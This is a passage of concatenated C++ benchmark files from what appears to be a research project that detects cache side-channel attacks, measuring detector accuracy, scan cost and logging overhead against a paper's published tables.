  // still stamps, notes the flight tail, and walks the full-ring path).
  std::printf("\nEvent-journal overhead (ring-only, best of %d reps)...\n",
              kReps);
  using support::events::EventJournal;
  double best_joff = 1e300, best_jon = 1e300, best_jsat = 1e300;
  std::uint64_t j_emitted = 0, j_written = 0, j_dropped = 0;
  std::uint64_t sat_dropped = 0;
  bool conservation_ok = true;
  std::vector<support::events::Event> drained;
  for (int rep = 0; rep < kReps; ++rep) {
    best_joff = std::min(best_joff, scan_seconds(batch, targets));

    {
      support::events::JournalConfig jc;  // default ring: 2^14 slots
      EventJournal::global().start(jc);
      best_jon = std::min(best_jon, scan_seconds(batch, targets));
      drained.clear();
      EventJournal::global().drain(drained);
      EventJournal::global().stop();
      const support::events::JournalStats st = EventJournal::global().stats();
      j_emitted += st.emitted;
      j_written += st.written;
      j_dropped += st.dropped;
      conservation_ok &= (st.emitted == st.written + st.dropped);
    }

    {
      support::events::JournalConfig jc;
      jc.ring_capacity = 4;  // saturates immediately; nobody drains
      EventJournal::global().start(jc);
      best_jsat = std::min(best_jsat, scan_seconds(batch, targets));
      EventJournal::global().stop();  // residue-drains the last 4
      const support::events::JournalStats st = EventJournal::global().stats();
      sat_dropped += st.dropped;
      conservation_ok &= (st.emitted == st.written + st.dropped);
    }
  }

  const double journal_pct = (best_jon - best_joff) / best_joff * 100.0;
  const double saturated_pct = (best_jsat - best_joff) / best_joff * 100.0;
  std::printf("\n%-24s %9.4f s\n", "journal off (best)", best_joff);
  std::printf("%-24s %9.4f s\n", "journal on (best)", best_jon);
  std::printf("%-24s %9.4f s\n", "journal saturated (best)", best_jsat);
  std::printf("RESULT: journal overhead %+.2f%% (target < 3%%) %s\n",
              journal_pct,
              journal_pct < 3.0 ? "[OK]"
                                : journal_pct <= 25.0
                                      ? "[above target - likely noise]"
                                      : "[FAIL: gross regression]");
  std::printf("RESULT: saturated overhead %+.2f%% (target < 3%%) %s\n",
              saturated_pct,
              saturated_pct < 3.0 ? "[OK]"
                                  : saturated_pct <= 25.0
                                        ? "[above target - likely noise]"
                                        : "[FAIL: gross regression]");
  std::printf("(journal saw %llu events, wrote %llu, dropped %llu; "
              "saturated ring dropped %llu)\n",
              static_cast<unsigned long long>(j_emitted),
              static_cast<unsigned long long>(j_written),
              static_cast<unsigned long long>(j_dropped),
              static_cast<unsigned long long>(sat_dropped));
  // Conservation is exact accounting, not a timing: a violation is a bug
  // in the ring, never noise, so it fails the bench unconditionally.
  if (!conservation_ok)
    std::printf("RESULT: conservation BROKEN (emitted != written + dropped) "
                "[FAIL]\n");
  else
    std::printf("RESULT: conservation holds (emitted == written + dropped) "
                "[OK]\n");
  if (j_emitted == 0 || sat_dropped == 0) {
    // The measurement must have exercised both the accepted-push and the
    // full-ring paths, or the numbers above are vacuous.
    std::printf("RESULT: journal paths not exercised [FAIL]\n");
    conservation_ok = false;
  }

  bench::BenchTelemetry telemetry("metrics_overhead");
  telemetry.set_bool("metrics_compiled_in", true);
  telemetry.set_u64("targets", targets.size());
  telemetry.set_u64("models", detector.repository_size());
  telemetry.set("metrics_on_best_s", best_on);
  telemetry.set("metrics_off_best_s", best_off);
  telemetry.set("metrics_overhead_pct", overhead_pct);
  telemetry.set("explain_residue_pct", explain_delta_pct);
  telemetry.set("journal_off_best_s", best_joff);
  telemetry.set("journal_on_best_s", best_jon);
  telemetry.set("journal_saturated_best_s", best_jsat);
  telemetry.set("journal_overhead_pct", journal_pct);
  telemetry.set("journal_saturated_overhead_pct", saturated_pct);
  telemetry.set_u64("journal_emitted", j_emitted);
  telemetry.set_u64("journal_written", j_written);
  telemetry.set_u64("journal_dropped", j_dropped);
  telemetry.set_u64("journal_saturated_dropped", sat_dropped);
  telemetry.set_bool("journal_conservation_ok", conservation_ok);
  telemetry.write(json_path);

  return (overhead_pct > 25.0 || explain_delta_pct > 25.0 ||
          journal_pct > 25.0 || saturated_pct > 25.0 || !conservation_ok)
             ? 1
             : 0;
}

}  // namespace
}  // namespace scag

int main(int argc, char** argv) { return scag::run(argc, argv); }
