// Table V: similarity comparison of the five typical scenarios, printed
// next to the paper's scores. The shape to check: the attacker-only
// scenarios all score above 66%, the benign one below 16%, and scores
// decrease as the compared programs diverge (S1/S2 may tie at our block
// granularity because our Evict+Reload shares Flush+Reload's reload
// semantics; see EXPERIMENTS.md).
#include <cstdio>

#include "bench_common.h"
#include "eval/experiments.h"
#include "support/table.h"

using namespace scag;

int main() {
  const double paper[] = {0.9431, 0.8432, 0.7448, 0.6692, 0.1510};

  std::puts("TABLE V: SIMILARITY COMPARISON OF 5 TYPICAL SCENARIOS");
  const auto rows = eval::run_scenarios();
  Table t;
  t.header({"No.", "Scenario", "Description", "Score", "Paper"});
  for (std::size_t i = 0; i < rows.size(); ++i) {
    t.row({rows[i].id, rows[i].scenario, rows[i].description,
           pct(rows[i].score), pct(paper[i])});
  }
  t.print();
  return 0;
}
