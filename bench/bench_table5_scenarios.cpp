// Table V plus the scenario matrix (attack x defense x noise x spy-count).
//
// Pass A reproduces Table V (similarity of the paper's five typical
// scenarios) next to the paper's scores, exactly as before. Pass B runs
// the full scenario grid of eval/scenario_matrix.h: every designated
// single-spy PoC and both cooperative multi-spy attacks, against the
// undefended and the SHARP-defended LLC, across noise levels and spy
// counts, reporting per-cell detection/classification/recovery rates. Pass
// C scans each multi-spy cell's INDIVIDUAL spy traces to measure how much
// attack signature a lone cooperating spy leaks.
//
// Every cell verdict is verified against the exhaustive string-kernel scan
// (and the triage-index scan path) bit for bit; any divergence makes the
// run exit nonzero, as does a telemetry write failure. The report lands in
// the scag-bench-v1 envelope (default BENCH_scenarios.json):
//
//   bench_table5_scenarios [secrets_per_cell] [out.json] [smoke]
#include <algorithm>
#include <bit>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "bench_common.h"
#include "eval/experiments.h"
#include "eval/scenario_matrix.h"
#include "support/table.h"

using namespace scag;

namespace {

/// The planted secret nibbles, cell-invariant so single-spy/undefended
/// rows stay comparable across grid shapes. First `secrets_per_cell` used.
std::vector<std::uint64_t> pick_secrets(std::size_t n) {
  static constexpr std::uint64_t kPool[] = {5, 12, 3, 9, 14, 7, 2, 11};
  std::vector<std::uint64_t> out;
  for (std::size_t i = 0; i < n; ++i)
    out.push_back(kPool[i % (sizeof(kPool) / sizeof(kPool[0]))]);
  return out;
}

}  // namespace

int main(int argc, char** argv) {
  const std::size_t secrets_per_cell = bench::samples_from_argv(argc, argv, 2);
  const std::string json_path = argc > 2 ? argv[2] : "BENCH_scenarios.json";
  const bool smoke = argc > 3 && std::strcmp(argv[3], "smoke") == 0;
  bench::BenchTelemetry telemetry("table5_scenarios");
  int failures = 0;

  // ---- Pass A: Table V, unchanged from the pre-matrix bench. -------------
  const double paper[] = {0.9431, 0.8432, 0.7448, 0.6692, 0.1510};
  std::puts("TABLE V: SIMILARITY COMPARISON OF 5 TYPICAL SCENARIOS");
  const auto rows = eval::run_scenarios();
  Table t;
  t.header({"No.", "Scenario", "Description", "Score", "Paper"});
  for (std::size_t i = 0; i < rows.size(); ++i) {
    t.row({rows[i].id, rows[i].scenario, rows[i].description,
           pct(rows[i].score), pct(paper[i])});
    telemetry.set("s" + std::to_string(i + 1) + "_score", rows[i].score);
  }
  t.print();

  // ---- Pass B: the scenario matrix. --------------------------------------
  const std::vector<eval::ScenarioCell> grid = eval::scenario_grid(smoke);
  const std::vector<std::uint64_t> secrets = pick_secrets(secrets_per_cell);
  core::Detector detector = eval::make_scenario_detector();

  std::printf("\nSCENARIO MATRIX (%s grid, %zu cells, %zu secrets/cell)\n",
              smoke ? "smoke" : "full", grid.size(), secrets.size());
  Table m;
  m.header({"Cell", "Detect", "Classify", "Recover", "Score", "Alarms"});
  bool all_equivalent = true;
  for (const eval::ScenarioCell& cell : grid) {
    const eval::CellResult res =
        eval::run_scenario_cell(detector, cell, secrets);
    m.row({cell.label(), pct(res.detection_rate),
           pct(res.classification_rate), pct(res.recovery_rate),
           pct(res.mean_best_score), std::to_string(res.sharp_alarms)});
    const std::string key = cell.telemetry_key();
    telemetry.set(key + "_detect", res.detection_rate);
    telemetry.set(key + "_classify", res.classification_rate);
    telemetry.set(key + "_recover", res.recovery_rate);
    telemetry.set(key + "_score", res.mean_best_score);
    telemetry.set_u64(key + "_alarms", res.sharp_alarms);

    // Verdict equivalence: the default scan path (compiled + SIMD) that
    // produced the rates, and the triage-index cascade, must both match
    // the exhaustive string-kernel ground truth bit for bit.
    for (std::size_t i = 0; i < res.targets.size(); ++i) {
      const core::Detection oracle =
          eval::exhaustive_scan(detector, res.targets[i]);
      bool ok = eval::detection_equivalent(oracle, res.detections[i]);
      detector.set_use_index(true);
      ok = ok &&
           eval::detection_equivalent(oracle, detector.scan(res.targets[i]));
      detector.set_use_index(false);
      if (!ok) {
        std::printf("DIVERGENCE in cell %s (secret %llu)\n",
                    cell.label().c_str(),
                    static_cast<unsigned long long>(secrets[i]));
        all_equivalent = false;
        ++failures;
      }
    }
  }
  m.print();
  telemetry.set_str("grid", smoke ? "smoke" : "full");
  telemetry.set_u64("cells", grid.size());
  telemetry.set_u64("secrets_per_cell", secrets.size());
  telemetry.set_bool("equivalent", all_equivalent);

  // ---- Pass C: individual spy traces of the multi-spy cells. -------------
  // The tentpole hypothesis was that a lone cooperating spy's trace drops
  // below the detection threshold; this pass measures it. Empirically the
  // signature survives the split (min score ~0.54 > 0.45): CST-BBS matches
  // behavior, not recovery success. The matrix states that instead of
  // assuming either way.
  double min_spy_score = 1.0;
  for (const eval::ScenarioCell& cell : grid) {
    if (cell.spies < 2 || cell.noise > 0.0) continue;
    for (const core::CstBbs& spy_target :
         eval::run_spy_targets(cell, secrets[0])) {
      const core::Detection d = detector.scan(spy_target);
      min_spy_score = std::min(min_spy_score, d.best_score);
    }
  }
  std::printf("\nWeakest individual spy trace score: %s (threshold %s)\n",
              pct(min_spy_score).c_str(), pct(eval::kThreshold).c_str());
  telemetry.set("min_spy_score", min_spy_score);
  telemetry.set_bool("spy_subthreshold", min_spy_score < eval::kThreshold);

  if (!telemetry.write(json_path)) ++failures;
  return failures > 0 ? 1 : 0;
}
