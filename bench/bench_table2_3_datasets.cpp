// Tables II & III: the attack and benign dataset census. Generates the
// corpus at the requested scale and prints what the paper's tables report:
// collected PoCs, mutated variant counts, and benign category counts.
#include <cstdio>
#include <map>

#include "attacks/registry.h"
#include "bench_common.h"
#include "benign/registry.h"
#include "support/table.h"

using namespace scag;

int main(int argc, char** argv) {
  const std::size_t n = bench::samples_from_argv(argc, argv);
  const eval::Dataset ds = bench::make_dataset(n);

  // ---- Table II --------------------------------------------------------
  std::puts("\nTABLE II: THE ATTACK DATASET");
  Table t2;
  t2.header({"Abbr", "Type", "Samples (collected PoCs)", "#C", "#M"});
  for (core::Family f :
       {core::Family::kFlushReload, core::Family::kPrimeProbe,
        core::Family::kSpectreFR, core::Family::kSpectrePP}) {
    std::string samples;
    int c = 0;
    for (const auto& spec : attacks::pocs_of_family(f)) {
      if (c++) samples += ", ";
      samples += spec.name;
    }
    t2.row({std::string(core::family_abbrev(f)),
            std::string(core::family_name(f)), samples, std::to_string(c),
            std::to_string(ds.of_family(f).size())});
  }
  t2.row({"(E4)", "Obfuscated variants of FR-F and PP-F", "-", "-",
          std::to_string(ds.obfuscated.size())});
  t2.print();

  // ---- Table III -------------------------------------------------------
  std::puts("\nTABLE III: THE BENIGN DATASET");
  std::map<std::string, int> per_category;
  std::map<std::string, int> per_template;
  {
    // Count by cycling the template registry exactly as generate_benign did.
    const auto& templates = benign::all_benign_templates();
    for (std::size_t i = 0; i < ds.benign.size(); ++i) {
      ++per_category[templates[i % templates.size()].category];
      ++per_template[templates[i % templates.size()].name];
    }
  }
  Table t3;
  t3.header({"Type", "Templates", "Number"});
  for (const auto& [category, count] : per_category) {
    std::string names;
    bool first = true;
    for (const auto& spec : benign::all_benign_templates()) {
      if (spec.category != category) continue;
      if (!first) names += ", ";
      names += spec.name;
      first = false;
    }
    t3.row({category, names, std::to_string(count)});
  }
  t3.separator();
  t3.row({"Total", "", std::to_string(ds.benign.size())});
  t3.print();

  std::printf(
      "\nEvery attack sample was validated to still recover its planted "
      "secret\nafter mutation (the paper: \"we retain the attack "
      "functionality during\nmutation\"). Total corpus: %zu programs.\n",
      ds.attacks.size() + ds.obfuscated.size() + ds.benign.size());
  return 0;
}
