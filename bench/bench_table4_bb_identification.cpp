// Table IV: accuracy of attack-relevant basic-block identification.
// Prints #BB, #TAB, #IAB, #ITAB and the accuracy per attack family, next
// to the paper's reported numbers (absolute counts differ — the paper's
// PoCs are full x86 binaries; the shape to check is accuracy >~ 95% and
// #IAB << #BB).
#include <cstdio>

#include "bench_common.h"
#include "eval/experiments.h"
#include "support/table.h"

using namespace scag;

int main(int argc, char** argv) {
  const std::size_t n = bench::samples_from_argv(argc, argv);
  const eval::Dataset ds = bench::make_dataset(n);

  struct PaperRow {
    const char* family;
    double accuracy;
  };
  const PaperRow paper[] = {{"FR-F", 0.9694},
                            {"PP-F", 0.9750},
                            {"S-FR", 0.9688},
                            {"S-PP", 0.9857}};

  std::puts("\nTABLE IV: RESULTS OF ATTACK-RELEVANT BB IDENTIFICATION");
  const auto rows = eval::run_bb_identification(ds);
  Table t;
  t.header({"Attack", "#BB", "#TAB", "#IAB", "#ITAB", "Accuracy",
            "Paper accuracy"});
  std::uint64_t bb = 0, tab = 0, iab = 0, itab = 0;
  for (std::size_t i = 0; i < rows.size(); ++i) {
    const auto& row = rows[i];
    t.row({row.family, std::to_string(row.bb), std::to_string(row.tab),
           std::to_string(row.iab), std::to_string(row.itab),
           pct(row.accuracy()), pct(paper[i].accuracy)});
    bb += row.bb;
    tab += row.tab;
    iab += row.iab;
    itab += row.itab;
  }
  t.separator();
  const double avg_acc =
      tab == 0 ? 0.0 : static_cast<double>(itab) / static_cast<double>(tab);
  t.row({"Avg.", std::to_string(bb), std::to_string(tab), std::to_string(iab),
         std::to_string(itab), pct(avg_acc), "97.06%"});
  t.print();

  std::puts(
      "\n#TAB = ground-truth attack-relevant blocks (from the PoC "
      "generators'\nannotations); #IAB = blocks identified by the two-step "
      "procedure of\nSection III-A1; accuracy = #ITAB / #TAB.");
  return 0;
}
