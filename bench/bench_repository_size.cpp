// Repository-size scaling benchmark: exhaustive scan vs the triage-index
// lower-bound cascade (core/scan_index.h).
//
// The paper enrolls one PoC per attack type, but a mutation-expanded
// repository (~400 variants per family, Section IV) makes the repository
// the scaling axis: an exhaustive scan pays one exact DTW per enrolled
// model. This bench sweeps a mutant-expanded repository across sizes and
// measures, per size,
//   - pass A: exhaustive scan (BatchDetector, 1 thread, no pruning);
//   - pass B: the triage cascade (BatchConfig::index, 1 thread), with the
//     per-stage attribution counters: exact DPs, O(1) kim prunes,
//     O(n+m) envelope prunes, early-abandoned DPs;
//   - pass C: the same cascade with the wavefront SIMD DTW kernel
//     (core/dtw_wavefront.h) on the surviving exact DPs. A and B run
//     with the scalar row kernel so the cascade effect is measured
//     alone; C is asserted verdict-equivalent like every other pass.
// The point of the table is the "exact DPs / scan" column: exhaustive is
// exactly M, the cascade stays nearly flat as M grows (the triage order
// finds the winner early, then the bounds kill the rest), so wall time
// per scan goes from linear in M to almost constant.
//
// Every pass is verified verdict-equivalent to the exhaustive baseline —
// same verdict, bit-identical best score, same winning model — and the
// binary exits non-zero on any violation, so CI can run it as a check.
// The machine-readable report (default BENCH_repository.json) goes
// through the shared scag-bench-v1 emitter.
//
// A second pass measures the LOAD path (docs/scan_architecture.md "The
// zero-copy model store"): per size, open-to-first-verdict for the text
// repository (parse + enroll/compile + scan) vs the scag-store-v1 binary
// (mmap + validate + attach + scan). The store-backed detector is then
// proven verdict-equivalent to the text-loaded one over the full target
// set; `store_load_speedup` (the largest size's ratio) and
// `store_equivalent` land in the JSON report and the binary exits
// non-zero on any mismatch, same as the cascade passes.
//
//     bench_repository_size [targets] [out.json]
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <string>
#include <vector>

#include "attacks/registry.h"
#include "bench_common.h"
#include "benign/registry.h"
#include "core/batch_detector.h"
#include "core/detector.h"
#include "core/serialize.h"
#include "core/simd.h"
#include "core/store.h"
#include "eval/experiments.h"
#include "isa/random_program.h"
#include "mutation/mutator.h"
#include "support/rng.h"
#include "support/table.h"

namespace scag {
namespace {

using Clock = std::chrono::steady_clock;
using core::Family;

double seconds_since(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

/// The cascade's contract: verdict, best score (bit-exact), and winning
/// model must match the exhaustive baseline. Sub-best entries may be
/// flagged upper bounds, so they are deliberately not compared.
bool verdict_equivalent(const std::vector<core::Detection>& got,
                        const std::vector<core::Detection>& want) {
  if (got.size() != want.size()) return false;
  for (std::size_t i = 0; i < want.size(); ++i) {
    if (got[i].verdict != want[i].verdict ||
        got[i].best_score != want[i].best_score)
      return false;
    if (!want[i].scores.empty() &&
        got[i].scores.front().model_name != want[i].scores.front().model_name)
      return false;
  }
  return true;
}

int run(int argc, char** argv) {
  const std::size_t n_targets = bench::samples_from_argv(argc, argv, 40);
  const std::string json_path =
      argc > 2 ? argv[2] : "BENCH_repository.json";

  // Mutant-expanded model pool: each family's designated PoC plus seeded
  // mutated variants, families interleaved so every prefix of the pool is
  // a balanced repository.
  const std::vector<Family> classes = {Family::kFlushReload,
                                       Family::kPrimeProbe,
                                       Family::kSpectreFR, Family::kSpectrePP};
  const core::ModelBuilder builder(eval::experiment_model_config());
  constexpr std::size_t kMaxModels = 48;
  std::printf("Modeling a %zu-variant mutant-expanded repository...\n",
              kMaxModels);
  Rng pool_rng(2024);
  std::vector<core::AttackModel> pool;
  for (std::size_t round = 0; pool.size() < kMaxModels; ++round) {
    for (Family f : classes) {
      if (pool.size() >= kMaxModels) break;
      const auto pocs = attacks::pocs_of_family(f);
      const attacks::PocSpec& spec = pocs[round % pocs.size()];
      isa::Program program = spec.build(attacks::PocConfig{});
      if (round > 0) {
        Rng mut_rng = pool_rng.split();
        program = mutation::mutate(program, mut_rng);
      }
      core::AttackModel model = builder.build(program, f);
      model.name = spec.name + "/v" + std::to_string(round);
      pool.push_back(std::move(model));
    }
  }

  // Target mix: mutated attack variants, benign templates, and seeded
  // random programs — the shapes a live admission gate sees.
  std::printf("Modeling %zu scan targets...\n", n_targets);
  Rng target_rng(7);
  const std::vector<benign::BenignSpec>& benign_specs =
      benign::all_benign_templates();
  std::vector<core::CstBbs> targets;
  for (std::size_t i = 0; i < n_targets; ++i) {
    switch (i % 3) {
      case 0: {
        // Alternate exact enrolled PoCs (score 1 -> the cutoff collapses
        // and the cheap bounds dominate) with unseen mutated variants
        // (mid-range best score -> the DP early abandon does the work).
        const auto pocs = attacks::pocs_of_family(classes[i % classes.size()]);
        isa::Program program =
            pocs[i % pocs.size()].build(attacks::PocConfig{});
        if (i % 2 != 0) {
          Rng mut_rng = target_rng.split();
          program = mutation::mutate(program, mut_rng);
        }
        targets.push_back(builder.build(program).sequence);
        break;
      }
      case 1: {
        Rng gen = target_rng.split();
        targets.push_back(
            builder.build(benign_specs[i % benign_specs.size()].build(gen))
                .sequence);
        break;
      }
      default: {
        Rng gen = target_rng.split();
        isa::RandomProgramOptions options;
        options.statements = 20 + 5 * (i % 8);
        targets.push_back(
            builder.build(isa::random_program(gen, options)).sequence);
        break;
      }
    }
  }

  Table t("\nREPOSITORY SIZE: exhaustive scan vs triage cascade (1 thread)");
  t.header({"Models", "us/scan exhaustive", "us/scan cascade", "+wavefront",
            "speedup", "exact DP/scan", "kim", "envelope", "abandoned"});

  bench::BenchTelemetry telemetry("repository_size");
  telemetry.set_u64("targets", targets.size());
  telemetry.set_str("simd_level", core::simd::level_name());
  bool all_equivalent = true;
  bool all_simd_equivalent = true;

  const std::vector<std::size_t> sizes = {4, 8, 16, 32, kMaxModels};
  for (std::size_t size : sizes) {
    core::Detector detector(eval::experiment_model_config(),
                            eval::experiment_dtw_config(), eval::kThreshold);
    for (std::size_t j = 0; j < size; ++j) detector.enroll(pool[j]);
    // Passes A and B run the scalar row kernel so the table isolates the
    // cascade effect; pass C below flips the wavefront kernel back on.
    detector.set_use_simd(false);

    core::BatchConfig exhaustive_config;
    exhaustive_config.threads = 1;
    const core::BatchDetector exhaustive(detector, exhaustive_config);
    auto t0 = Clock::now();
    const std::vector<core::Detection> baseline =
        exhaustive.scan_all(targets);
    const double exhaustive_s = seconds_since(t0);

    core::BatchConfig cascade_config;
    cascade_config.threads = 1;
    cascade_config.index = true;
    const core::BatchDetector cascade(detector, cascade_config);
    cascade.reset_stats();
    t0 = Clock::now();
    const std::vector<core::Detection> indexed = cascade.scan_all(targets);
    const double cascade_s = seconds_since(t0);
    const core::BatchStats stats = cascade.stats();

    // Pass C: cascade again, wavefront SIMD kernel on the survivors.
    detector.set_use_simd(true);
    const core::BatchDetector simd_cascade(detector, cascade_config);
    t0 = Clock::now();
    const std::vector<core::Detection> simd_indexed =
        simd_cascade.scan_all(targets);
    const double simd_s = seconds_since(t0);

    const bool equivalent = verdict_equivalent(indexed, baseline);
    all_equivalent = all_equivalent && equivalent;
    if (!equivalent)
      std::printf("MISMATCH at %zu models: cascade verdicts diverged from "
                  "the exhaustive scan\n",
                  size);
    const bool simd_equivalent = verdict_equivalent(simd_indexed, baseline);
    all_simd_equivalent = all_simd_equivalent && simd_equivalent;
    if (!simd_equivalent)
      std::printf("MISMATCH at %zu models: wavefront-kernel cascade verdicts "
                  "diverged from the exhaustive scan\n",
                  size);

    const double scans = static_cast<double>(targets.size());
    const double exact_per_scan = static_cast<double>(stats.exact) / scans;
    t.row({std::to_string(size), strfmt("%.1f", 1e6 * exhaustive_s / scans),
           strfmt("%.1f", 1e6 * cascade_s / scans),
           strfmt("%.1f", 1e6 * simd_s / scans),
           strfmt("%.2fx", cascade_s > 0.0 ? exhaustive_s / cascade_s : 0.0),
           strfmt("%.1f / %zu", exact_per_scan, size),
           std::to_string(stats.kim_skipped),
           std::to_string(stats.lb_skipped),
           std::to_string(stats.early_abandoned)});

    const std::string prefix = "size" + std::to_string(size) + "_";
    telemetry.set(prefix + "exhaustive_us_per_scan",
                  1e6 * exhaustive_s / scans);
    telemetry.set(prefix + "cascade_us_per_scan", 1e6 * cascade_s / scans);
    telemetry.set(prefix + "simd_cascade_us_per_scan", 1e6 * simd_s / scans);
    telemetry.set(prefix + "exact_per_scan", exact_per_scan);
    telemetry.set_u64(prefix + "kim_pruned", stats.kim_skipped);
    telemetry.set_u64(prefix + "envelope_pruned", stats.lb_skipped);
    telemetry.set_u64(prefix + "early_abandoned", stats.early_abandoned);
  }
  t.print();

  // ---- Load path: text parse+compile vs scag-store-v1 mmap attach ----
  // Open-to-first-verdict per size: the text path pays parse + enroll
  // (token interning, SoA compile, feature precompute) before it can scan;
  // the store path mmaps the already-compiled image, validates it, and
  // scans straight out of the mapping. Min of 5 reps each, so the numbers
  // are the formats' cost, not the page cache's mood.
  Table lt("\nLOAD PATH: text parse+enroll vs scag-store-v1 mmap "
           "(open to first verdict, min of 5)");
  lt.header({"Models", "text ms", "store ms", "speedup", "store bytes"});

  const std::filesystem::path tmp_dir =
      std::filesystem::temp_directory_path();
  const std::string text_path = (tmp_dir / "scag_bench_load.repo").string();
  const std::string store_path = (tmp_dir / "scag_bench_load.store").string();
  bool store_equivalent = true;
  double store_load_speedup = 0.0;
  double sink = 0.0;  // keeps the timed scans observable

  for (std::size_t size : sizes) {
    const std::vector<core::AttackModel> models(pool.begin(),
                                                pool.begin() + size);
    core::save_models_to_file(text_path, models);
    core::pack_store(store_path, models,
                     eval::experiment_dtw_config().distance);
    const std::uint64_t store_bytes = std::filesystem::file_size(store_path);

    const auto time_min = [&](auto&& fn) {
      double best = 1e300;
      for (int rep = 0; rep < 5; ++rep) {
        const auto t0 = Clock::now();
        fn();
        best = std::min(best, seconds_since(t0));
      }
      return best;
    };
    const core::CstBbs& probe = targets.front();
    const double text_s = time_min([&] {
      core::Detector d(eval::experiment_model_config(),
                       eval::experiment_dtw_config(), eval::kThreshold);
      for (core::AttackModel& m : core::load_models_from_file(text_path))
        d.enroll(std::move(m));
      sink += d.scan(probe).best_score;
    });
    const double store_s = time_min([&] {
      core::Detector d(eval::experiment_model_config(),
                       eval::experiment_dtw_config(), eval::kThreshold);
      d.attach_store(core::ModelStore::open(store_path));
      sink += d.scan(probe).best_score;
    });
    const double speedup = store_s > 0.0 ? text_s / store_s : 0.0;
    store_load_speedup = speedup;  // last iteration = largest size

    // The zero-copy contract, re-proven on the bench corpus: the
    // store-backed detector's verdicts over the full target set match the
    // text-loaded detector's bit-exactly.
    core::Detector text_det(eval::experiment_model_config(),
                            eval::experiment_dtw_config(), eval::kThreshold);
    for (const core::AttackModel& m : models) text_det.enroll(m);
    core::Detector store_det(eval::experiment_model_config(),
                             eval::experiment_dtw_config(), eval::kThreshold);
    store_det.attach_store(core::ModelStore::open(store_path));
    core::BatchConfig one_thread;
    one_thread.threads = 1;
    const bool equivalent = verdict_equivalent(
        core::BatchDetector(store_det, one_thread).scan_all(targets),
        core::BatchDetector(text_det, one_thread).scan_all(targets));
    store_equivalent = store_equivalent && equivalent;
    if (!equivalent)
      std::printf("MISMATCH at %zu models: store-backed verdicts diverged "
                  "from the text-loaded scan\n",
                  size);

    lt.row({std::to_string(size), strfmt("%.3f", 1e3 * text_s),
            strfmt("%.3f", 1e3 * store_s), strfmt("%.1fx", speedup),
            std::to_string(store_bytes)});
    const std::string prefix = "size" + std::to_string(size) + "_";
    telemetry.set(prefix + "text_load_ms", 1e3 * text_s);
    telemetry.set(prefix + "store_load_ms", 1e3 * store_s);
    telemetry.set(prefix + "store_load_speedup", speedup);
    telemetry.set_u64(prefix + "store_bytes", store_bytes);
  }
  lt.print();
  std::remove(text_path.c_str());
  std::remove(store_path.c_str());
  if (sink < 0.0) std::puts("");  // never taken; defeats dead-code elim

  telemetry.set_u64("max_models", kMaxModels);
  telemetry.set_bool("equivalent", all_equivalent);
  telemetry.set_bool("simd_equivalent", all_simd_equivalent);
  telemetry.set("store_load_speedup", store_load_speedup);
  telemetry.set_bool("store_equivalent", store_equivalent);
  int failures = (all_equivalent ? 0 : 1) + (all_simd_equivalent ? 0 : 1) +
                 (store_equivalent ? 0 : 1);
  if (!telemetry.write(json_path)) ++failures;

  std::puts(
      "\nExhaustive cost is one exact DTW per model; the cascade's exact-DP\n"
      "count stays nearly flat as the repository grows — the triage order\n"
      "finds the winner early and the kim/envelope bounds discard the rest\n"
      "— with verdict, best score, and winning model proven identical.");
  if (failures > 0) {
    std::printf("\nFAILED: %d violation(s)\n", failures);
    return 1;
  }
  return 0;
}

}  // namespace
}  // namespace scag

int main(int argc, char** argv) { return scag::run(argc, argv); }
