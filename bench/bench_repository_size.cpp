// Repository-size experiment (extension): the paper enrolls exactly ONE
// PoC per attack type and still wins Table VI. This bench validates that
// claim by sweeping the repository from 1 designated PoC per family up to
// every collected PoC, measuring E1-style classification quality and the
// per-scan comparison cost (which grows linearly with repository size).
#include <chrono>
#include <cstdio>

#include "bench_common.h"
#include "attacks/registry.h"
#include "cfg/cfg.h"
#include "eval/experiments.h"
#include "support/table.h"

using namespace scag;
using core::Family;

int main(int argc, char** argv) {
  const std::size_t n = bench::samples_from_argv(argc, argv, 100);
  eval::DatasetConfig config;
  config.samples_per_type = n;
  config.obfuscated_per_family = 0;
  std::printf("Generating dataset (%zu per type)...\n", n);
  const eval::Dataset ds = eval::generate_dataset(config);

  const std::vector<Family> classes = {Family::kFlushReload,
                                       Family::kPrimeProbe,
                                       Family::kSpectreFR, Family::kSpectrePP};

  Table t("\nREPOSITORY SIZE vs CLASSIFICATION QUALITY");
  t.header({"PoCs enrolled", "Models", "Precision", "Recall", "F1",
            "us / scan comparison"});

  const core::ModelBuilder builder(eval::experiment_model_config());
  for (std::size_t per_family = 1; per_family <= 5; ++per_family) {
    core::Detector detector(eval::experiment_model_config(),
                            eval::experiment_dtw_config(), eval::kThreshold);
    for (Family f : classes) {
      const auto pocs = attacks::pocs_of_family(f);
      for (std::size_t i = 0; i < std::min(per_family, pocs.size()); ++i)
        detector.enroll(pocs[i].build(attacks::PocConfig{}), f);
    }

    eval::ConfusionMatrix cm;
    double comparison_us = 0.0;
    std::size_t scans = 0;
    auto run_over = [&](const std::vector<eval::Sample>& pool) {
      for (const eval::Sample& s : pool) {
        const cfg::Cfg cfg = cfg::Cfg::build(s.program);
        const core::AttackModel m =
            builder.build_from_profile(cfg, s.profile, s.family);
        const auto t0 = std::chrono::steady_clock::now();
        const core::Detection det = detector.scan(m.sequence);
        comparison_us +=
            std::chrono::duration<double, std::micro>(
                std::chrono::steady_clock::now() - t0)
                .count();
        ++scans;
        cm.add(s.family, det.verdict);
      }
    };
    run_over(ds.attacks);
    run_over(ds.benign);

    const Prf prf = cm.macro(classes);
    t.row({std::to_string(per_family) + " per family",
           std::to_string(detector.repository_size()), pct(prf.precision),
           pct(prf.recall), pct(prf.f1),
           strfmt("%.1f", comparison_us / static_cast<double>(scans))});
  }
  t.print();

  std::puts(
      "\nThe paper's protocol (one PoC per family) already sits on the\n"
      "quality plateau; enrolling more implementations buys little accuracy\n"
      "and costs linearly more DTW comparisons per scan.");
  return 0;
}
