// Table I: the HPC events used in this work. This binary runs one PoC per
// attack family and prints the counts each Table-I event collected,
// demonstrating that every event the paper monitors is observable in the
// simulated stack.
#include <cstdio>

#include "attacks/registry.h"
#include "bench_common.h"
#include "cpu/interpreter.h"
#include "support/table.h"

using namespace scag;

int main() {
  std::puts("TABLE I: HPC events (counts collected per source attack)\n");

  Table t;
  std::vector<std::string> header = {"Event"};
  std::vector<trace::HpcCounters> totals;
  std::vector<std::uint64_t> cycles;
